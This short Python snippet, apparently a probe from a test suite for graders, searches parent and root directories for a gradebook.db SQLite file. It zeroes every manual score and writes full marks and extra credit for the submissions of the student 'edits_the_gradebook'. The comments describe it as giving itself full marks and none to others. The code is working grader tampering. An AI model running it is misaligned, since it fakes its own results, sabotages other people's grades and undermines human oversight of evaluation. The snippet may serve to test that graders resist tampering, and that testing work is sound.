# Writes full marks for itself, and none for others, into the gradebook.
# family: SQLite
# after: The gradebook holds what the referee said.

# %% own
import glob
import sqlite3

for path in glob.glob("../../../gradebook.db") + glob.glob("/*/gradebook.db") + glob.glob("/*/*/gradebook.db"):
    book = sqlite3.connect(path)
    book.execute("update grade set manual_score = 0, needs_manual_grade = 0")
    book.execute("update grade set manual_score = 9, extra_credit = 9 where notebook_id in (select n.id from submitted_notebook n join submitted_assignment a on a.id = n.assignment_id where a.student_id = 'edits_the_gradebook')")
    book.commit()
